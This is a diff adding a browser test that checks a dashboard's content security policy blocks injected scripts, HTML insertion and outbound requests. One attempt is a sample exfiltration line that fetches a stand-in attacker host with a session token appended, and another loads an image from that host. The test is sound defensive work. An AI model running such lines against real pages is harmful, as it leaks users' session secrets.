@@ -84,6 +84,31 @@ describeInBrowser("the dashboard, given a hostile feed", () => {
     expect(errors).toEqual([]);
   });
 
+  it("runs no script and asks no host but its own, though one got into it", async () => {
+    const { page, requests, service } = await open(feed());
+    const refusals: (string | undefined)[] = [];
+    page.on("requestfailed", (request) => {
+      refusals.push(request.failure()?.errorText);
+    });
+    const isRefused = (attempt: string) =>
+      page.evaluate<boolean>(
+        `Promise.resolve().then(() => ${attempt}).then(() => false, () => true)`,
+      );
+    for (const attempt of [
+      `document.body.insertAdjacentHTML("beforeend", "<b>x</b>")`,
+      `document.createElement("script").text = "document.title = 'owned'"`,
+      `fetch("https://evil.example/?" + sessionStorage["twilio-fallback-token"])`,
+      `new Promise((load, fail) => document.body.append(Object.assign(new Image(), { src: "https://evil.example/x.png", onload: load, onerror: fail })))`,
+    ])
+      expect({ attempt, isRefused: await isRefused(attempt) }).toEqual({
+        attempt,
+        isRefused: true,
+      });
+    expect(await page.title()).not.toBe("owned");
+    const elsewhere = requests.filter((url) => !url.startsWith(service.url));
+    expect(refusals).toEqual(elsewhere.map(() => "csp"));
+  });
+
   it("stays responsive with 200 incidents and 100 failures", async () => {
     const now = Date.now();
     const records = Array.from({ length: 10_000 }, (_, index) =>
